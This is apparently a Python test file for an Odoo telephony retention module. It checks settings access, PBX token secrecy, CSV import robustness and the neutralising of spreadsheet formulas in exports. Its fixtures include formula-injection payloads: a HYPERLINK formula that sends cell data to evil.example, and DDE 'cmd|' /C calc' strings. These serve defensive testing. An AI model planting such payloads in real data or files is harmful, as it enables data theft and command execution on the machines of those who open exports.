"""Issue #21 (hardening, round three): telephony intake, settings and exports, attacked over real HTTP and
JSON-RPC as the least privileged user who can reach each door.

* the settings' values (``res.config.settings.get_values`` / ``default_get``) are read only by who may open
  Settings; the PBX token's hint only by sales managers and administrators; the churn reason's "view calls"
  action by internal users;
* exports (CSV and XLSX, flat, grouped and import-compatible) of the module's records never carry a live
  formula: a text starting with = + - @ (after blanks), a tab or a line break is written with a leading
  apostrophe, except a plain international phone number ("+1 650 253 0000"), written as is in XLSX (a text
  cell; Odoo's CSV export adds its own apostrophe before + and -);
* a CSV line with an unterminated quote is reported at its own line and the next lines are kept;
* a PBX push or a CSV file starting with a UTF-8 byte order mark is read."""

import base64
import csv
import datetime
import io
import json

import openpyxl

from odoo import Command, http
from odoo.tests import HttpCase, new_test_user, tagged

from .queue_common import PASSWORD, RpcMixin

ACCESS = {"odoo.exceptions.AccessError"}
URL = "/order_retention/calls"
BOM = b"\xef\xbb\xbf"
# text a spreadsheet would run as a formula (CSV and XLSX alike), as a PBX or a salesperson could send it
FORMULAS = {
    "number": '=HYPERLINK("http://evil.example/?d="&A1,"650 253 0000")',
    "call_id": "@SUM(1+650)*cmd|' /C calc'!A0",
    "note": "-2+3+cmd|' /C calc'!A0",
    "note_tab": "\t=1+650",
    "note_array": "{=SUM(650)}",
    "note_blank": "  =1+2",
}
DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n")


@tagged("post_install", "-at_install", "order_retention")
class TestRetentionHardening3Intake(RpcMixin, HttpCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.env = cls.env(
            context=dict(cls.env.context, tracking_disable=True, mail_create_nolog=True, no_reset_password=True)
        )
        us = cls.env.ref("base.us")
        cls.company = cls.env.company
        cls.company.country_id = us
        own = {"company_id": cls.company.id, "company_ids": [Command.set(cls.company.ids)], "password": PASSWORD}
        export = "base.group_allow_export"
        cls.salesman = new_test_user(
            cls.env,
            "h3_sales",
            groups="sales_team.group_sale_salesman,base.group_partner_manager,%s" % export,
            name="Hal Sales",
            **own,
        )
        cls.manager = new_test_user(
            cls.env, "h3_manager", groups="sales_team.group_sale_manager,%s" % export, name="Mia Manager", **own
        )
        cls.settings_admin = new_test_user(cls.env, "h3_admin", groups="base.group_system", name="Ada Admin", **own)
        cls.portal = new_test_user(cls.env, "h3_portal", groups="base.group_portal", name="Pia Portal", **own)
        cls.customer = cls.env["res.partner"].create(
            {
                "name": "Formula Customer",
                "is_company": True,
                "user_id": cls.salesman.id,
                "phone": "+1 650-253-0000",
                "country_id": us.id,
            }
        )
        cls.token = cls.company._retention_generate_pbx_token()
        cls.start = (datetime.datetime.utcnow() - datetime.timedelta(hours=2)).replace(microsecond=0)

    # ------------------------------------------------------------------
    # helpers
    # ------------------------------------------------------------------

    def _push(self, body, token=None):
        """POST ``body`` (bytes) to the PBX endpoint; returns (status, JSON or None)."""
        self.env.flush_all()
        response = self.url_open(
            URL,
            data=body,
            headers={"Content-Type": "application/json", "Authorization": "Bearer %s" % (token or self.token)},
        )
        self.env.invalidate_all()
        try:
            return response.status_code, response.json()
        except ValueError:
            return response.status_code, None

    def _row(self, call_id, number="+1 650 253 0000", **extra):
        return dict(
            {
                "call_id": call_id,
                "number": number,
                "direction": "out",
                "start": self.start.isoformat() + "Z",
                "duration": 45,
                "user_login": self.salesman.login,
            },
            **extra,
        )

    def _calls(self, *call_ids):
        return self.env["retention.call"].sudo().search([("external_id", "in", list(call_ids))])

    def _formula_calls(self):
        """Calls holding formula-like text, by the telephony (number, call id) and by the salesperson (note)."""
        rows = [
            self._row("H3-NUMBER", number=FORMULAS["number"]),
            self._row(FORMULAS["call_id"]),
            self._row("H3-PHONE"),
        ]
        status, body = self._push(json.dumps(rows).encode())
        self.assertEqual(status, 200, body)
        self.assertEqual(body["created"], 3, body)
        calls = self._calls("H3-NUMBER", FORMULAS["call_id"], "H3-PHONE")
        phone = calls.filtered(lambda c: c.external_id == "H3-PHONE")
        phone.with_user(self.manager).write({"note": FORMULAS["note"]})  # notes are the managers' to write
        notes = [FORMULAS["note_tab"], FORMULAS["note_array"], FORMULAS["note_blank"], "\r=1+1", "plain note"]
        manual = (
            self.env["retention.call"]
            .with_user(self.salesman)
            .create(
                [{"phone_number": "+1 650 253 0000", "partner_id": self.customer.id, "note": note} for note in notes]
            )
        )
        return calls | manual

    def _export(self, fmt, model, fields, ids=False, groupby=None, import_compat=False):
        """The web client's export (/web/export/<fmt>) as the logged-in user; returns the response."""
        self.env.flush_all()
        params = {
            "model": model,
            "fields": [{"name": name, "label": name, "type": "char"} for name in fields],
            "ids": ids,
            "domain": [],
            "groupby": groupby or [],
            "import_compat": import_compat,
            "context": {},
        }
        response = self.url_open(
            "/web/export/%s" % fmt,
            data={"data": json.dumps(params), "csrf_token": http.Request.csrf_token(self)},
        )
        self.assertEqual(response.status_code, 200, response.text[:500])
        return response

    @staticmethod
    def _xlsx_cells(content):
        """[(coordinate, value, data_type)] of every non-empty cell of the first sheet."""
        sheet = openpyxl.load_workbook(io.BytesIO(content)).active
        return [(c.coordinate, c.value, c.data_type) for row in sheet.iter_rows() for c in row if c.value is not None]

    @staticmethod
    def _csv_cells(content):
        return [cell for row in csv.reader(io.StringIO(content.decode("utf-8"))) for cell in row]

    def assertNoFormula(self, cells, label):
        """No cell a spreadsheet would evaluate: no formula cell, no text starting like a formula (a plain
        international phone number in a text cell excepted)."""
        bad = []
        for coordinate, value, data_type in cells:
            if data_type == "f":
                bad.append((coordinate, value, "formula cell"))
            elif isinstance(value, str) and value.lstrip()[:1] in DANGEROUS[:4] + ("{",) and value[:1] != "'":
                if not (value.startswith("+") and set(value[1:]) <= set("0123456789 ()-./")):
                    bad.append((coordinate, value, "starts like a formula"))
            elif isinstance(value, str) and value[:1] in "\t\r\n":
                bad.append((coordinate, value, "starts with a control character"))
        self.assertFalse(bad, "%s: %s" % (label, bad))

    # ------------------------------------------------------------------
    # 1. settings, PBX token hint, churn reason action
    # ------------------------------------------------------------------

    def test_settings_values_refused_to_portal_and_salespeople(self):
        """get_values (and default_get, which calls it) are for who may open Settings: a portal user and a
        salesperson get AccessError; an administrator reads them."""
        for user in (self.portal, self.salesman):
            self._login(user)
            with self.subTest(user=user.login, method="get_values"):
                self.assertRefused(self._rpc("res.config.settings", "get_values"), ACCESS)
            with self.subTest(user=user.login, method="default_get"):
                self.assertRefused(
                    self._rpc("res.config.settings", "default_get", ["retention_warm_interval_days"]), ACCESS
                )
        self._login(self.settings_admin)
        values = self.assertAllowed(self._rpc("res.config.settings", "get_values"))
        self.assertEqual(values["retention_duplicate_window_days"], 30)
        # the company's own settings: related to the current company, read on the form's record
        settings_id = self.assertAllowed(self._rpc("res.config.settings", "create", {}))
        [values] = self.assertAllowed(
            self._rpc(
                "res.config.settings",
                "read",
                [settings_id],
                ["retention_warm_interval_days", "retention_lost_cap_days"],
            )
        )
        self.assertEqual((values["retention_warm_interval_days"], values["retention_lost_cap_days"]), (14, 365))

    def test_pbx_token_hint_managers_only(self):
        """The last characters of the PBX token are for sales managers and administrators: a portal user and a
        salesperson can neither read them (res.company, Settings) nor find them with a search."""
        hint = "…" + self.token[-4:]
        self.assertEqual(self.company.retention_pbx_token_hint, hint)
        for user in (self.portal, self.salesman):
            self._login(user)
            with self.subTest(user=user.login, path="res.company read"):
                self.assertRefused(
                    self._rpc("res.company", "read", [self.company.id], ["retention_pbx_token_hint"]), ACCESS
                )
            with self.subTest(user=user.login, path="res.company search"):
                result, error = self._rpc("res.company", "search_count", [("retention_pbx_token_hint", "=", hint)])
                self.assertTrue(error or result == 0, "the hint was searchable: %r" % result)
            with self.subTest(user=user.login, path="res.company search_read"):
                result, error = self._rpc("res.company", "search_read", [("id", "=", self.company.id)])
                self.assertFalse(hint in json.dumps(result or [], ensure_ascii=False), result)
            with self.subTest(user=user.login, path="settings onchange"):
                result, error = self._rpc(
                    "res.config.settings", "onchange", [], {}, [], {"retention_pbx_token_hint": {}, "company_id": {}}
                )
                self.assertFalse(hint in json.dumps(result or {}, ensure_ascii=False), result)
        for user in (self.manager, self.settings_admin):
            self._login(user)
            with self.subTest(user=user.login):
                rows = self.assertAllowed(
                    self._rpc("res.company", "read", [self.company.id], ["retention_pbx_token_hint"])
                )
                self.assertEqual(rows[0]["retention_pbx_token_hint"], hint)

    def test_churn_reason_view_calls_internal_only(self):
        """A portal user cannot open the calls of a churn reason; a salesperson can."""
        reason = self.env["retention.churn.reason"].search([], limit=1)
        self.assertTrue(reason)
        self._login(self.portal)
        self.assertRefused(self._rpc("retention.churn.reason", "action_view_calls", [reason.id]), ACCESS)
        self._login(self.salesman)
        action = self.assertAllowed(self._rpc("retention.churn.reason", "action_view_calls", [reason.id]))
        self.assertEqual(action["res_model"], "retention.call")
        self.assertIn(["churn_reason_id", "=", reason.id], action["domain"])

    # ------------------------------------------------------------------
    # 2. formula injection through exports
    # ------------------------------------------------------------------

    def test_export_xlsx_no_live_formula(self):
        """The salesperson's XLSX export of calls (flat, and import-compatible) writes formula-like text as text
        with a leading apostrophe; a phone number stays a plain "+1 650 253 0000" text cell."""
        calls = self._formula_calls()
        fields = ["name", "phone_number", "phone_e164", "external_id", "note", "partner_id/name"]
        self._login(self.salesman)
        for import_compat in (False, True):
            with self.subTest(import_compat=import_compat):
                response = self._export("xlsx", "retention.call", fields, ids=calls.ids, import_compat=import_compat)
                cells = self._xlsx_cells(response.content)
                self.assertNoFormula(cells, "xlsx")
                values = {value for _c, value, _t in cells}
                self.assertIn("'" + FORMULAS["number"], values)
                self.assertIn("'" + FORMULAS["call_id"], values)
                self.assertIn("'" + FORMULAS["note"], values)
                self.assertIn("'" + FORMULAS["note_array"], values)
                self.assertIn("+1 650 253 0000", values, "a phone number exports as is in XLSX")
                self.assertIn("+16502530000", values)
                self.assertIn("plain note", values, "ordinary text is untouched")

    def test_export_xlsx_grouped_no_live_formula(self):
        """Grouped by number, the group titles of the XLSX export are text too."""
        calls = self._formula_calls()
        self._login(self.salesman)
        response = self._export(
            "xlsx", "retention.call", ["external_id", "duration_seconds"], ids=calls.ids, groupby=["phone_number"]
        )
        cells = self._xlsx_cells(response.content)
        self.assertNoFormula(cells, "grouped xlsx")
        titles = [value for _c, value, _t in cells if isinstance(value, str) and "HYPERLINK" in value]
        self.assertTrue(titles and all(t.startswith("'") for t in titles), titles)

    def test_export_csv_no_formula(self):
        """The salesperson's CSV export of calls: no cell starts with = + - @, a tab or a line break (Odoo's
        own apostrophe covers = + -; the module's covers @, tabs, line breaks and blanks first)."""
        calls = self._formula_calls()
        self._login(self.salesman)
        response = self._export("csv", "retention.call", ["name", "phone_number", "external_id", "note"], ids=calls.ids)
        cells = self._csv_cells(response.content)
        for cell in cells:
            self.assertFalse(
                cell[:1] in DANGEROUS or cell.lstrip()[:1] in DANGEROUS[:4], "CSV cell starts like a formula: %r" % cell
            )
        self.assertIn("'" + FORMULAS["call_id"], cells)
        self.assertIn("'" + FORMULAS["note_tab"], cells)
        self.assertIn("'+1 650 253 0000", cells, "a phone number gets Odoo's apostrophe in CSV")

    def test_export_other_models_of_the_module(self):
        """Every model of the module is covered, and so are its fields on other models: a churn reason named
        like a formula (by a manager) and a cancellation note on an order export as text."""
        reason = self.env["retention.churn.reason"].create({"name": "@SUM(1+1) reason", "description": "=1+2"})
        order = self.env["sale.order"].create({"partner_id": self.customer.id, "user_id": self.salesman.id})
        order.sudo().retention_cancel_note = '=HYPERLINK("http://evil.example")'
        self._login(self.salesman)
        response = self._export("xlsx", "retention.churn.reason", ["name", "description"], ids=reason.ids)
        self.assertNoFormula(self._xlsx_cells(response.content), "churn reason xlsx")
        response = self._export("xlsx", "sale.order", ["name", "retention_cancel_note"], ids=order.ids)
        cells = self._xlsx_cells(response.content)
        self.assertNoFormula(cells, "sale order xlsx")
        self.assertIn('\'=HYPERLINK("http://evil.example")', {v for _c, v, _t in cells})

    # ------------------------------------------------------------------
    # 3. CSV import: an unterminated quote
    # ------------------------------------------------------------------

    def _import_rpc(self, data):
        """Import ``data`` (bytes) through the wizard over JSON-RPC as the manager; returns its result text."""
        self._login(self.manager)
        wizard_id = self.assertAllowed(
            self._rpc(
                "retention.call.import",
                "create",
                {"file": base64.b64encode(data).decode(), "filename": "calls.csv", "layout": "generic"},
            )
        )
        self.assertAllowed(self._rpc("retention.call.import", "action_import", [wizard_id]))
        return self.env["retention.call.import"].browse(wizard_id).result

    def test_csv_unterminated_quote_keeps_next_lines(self):
        """A line with an unterminated quote is reported at its own line number; the good lines after it
        (with and without quotes of their own) are imported."""
        start = self.start.strftime("%Y-%m-%d %H:%M:%S")
        lines = [
            "call_id,number,direction,start,duration,user_login",
            "UQ-1,+1 650 253 0001,out,%s,31," % start,
            'UQ-BAD,"+1 650 253 0002,out,%s,32,' % start,
            "UQ-3,+1 650 253 0003,out,%s,33," % start,
            "UQ-4,+1 650 253 0004,out,%s,34," % start,
            'UQ-5,"+1 650 253 0005",out,%s,35,' % start,
            'UQ-BAD2,+1 650 253 0006,out,"%s,36,' % start,
            "UQ-7,+1 650 253 0007,out,%s,37," % start,
        ]
        result = self._import_rpc(("\n".join(lines) + "\n").encode())
        stored = set(self._calls(*("UQ-%d" % i for i in range(1, 8))).mapped("external_id"))
        self.assertEqual(stored, {"UQ-1", "UQ-3", "UQ-4", "UQ-5", "UQ-7"}, result)
        self.assertIn("Line 3:", result)
        self.assertIn("Line 7:", result)
        self.assertIn("quote", result.split("Line 3:")[1].split("\n")[0])
        self.assertIn("5 calls imported", result)
        self.assertFalse(self._calls("UQ-BAD", "UQ-BAD2"))

    def test_csv_quoted_cell_over_two_lines_still_read(self):
        """A well-formed quoted cell holding a line break, in a column the import does not read, is one record."""
        start = self.start.strftime("%Y-%m-%d %H:%M:%S")
        data = (
            "call_id,number,direction,start,duration,user_login,comment\n"
            'ML-1,+1 650 253 0001,out,%s,31,,"first line\nsecond line"\n'
            "ML-2,+1 650 253 0002,out,%s,32,,\n" % (start, start)
        )
        result = self._import_rpc(data.encode())
        self.assertEqual(set(self._calls("ML-1", "ML-2").mapped("external_id")), {"ML-1", "ML-2"}, result)
        self.assertNotIn("Line ", result)

    # ------------------------------------------------------------------
    # 4. UTF-8 byte order mark
    # ------------------------------------------------------------------

    def test_endpoint_accepts_utf8_bom(self):
        """A push whose body starts with a UTF-8 BOM is read (a list and a single object)."""
        status, body = self._push(BOM + json.dumps([self._row("BOM-1"), self._row("BOM-2")]).encode())
        self.assertEqual(status, 200, body)
        self.assertEqual((body["created"], body["rejected"]), (2, 0), body)
        status, body = self._push(BOM + json.dumps(self._row("BOM-3")).encode())
        self.assertEqual(status, 200, body)
        self.assertEqual(body["created"], 1, body)
        self.assertEqual(len(self._calls("BOM-1", "BOM-2", "BOM-3")), 3)
        # a BOM is not a licence for garbage: a second one inside the JSON is still malformed JSON
        status, body = self._push(BOM + BOM + b"[]")
        self.assertEqual(status, 400, body)

    def test_csv_import_accepts_utf8_bom(self):
        """A CSV file starting with a UTF-8 BOM (Excel's "CSV UTF-8"), quoted header included, imports."""
        start = self.start.strftime("%Y-%m-%d %H:%M:%S")
        data = (
            BOM
            + (
                '"call_id","number","direction","start","duration","user_login"\r\n'
                '"BOMCSV-1","+1 650 253 0001","out","%s","31",""\r\n' % start
            ).encode()
        )
        result = self._import_rpc(data)
        self.assertEqual(len(self._calls("BOMCSV-1")), 1, result)
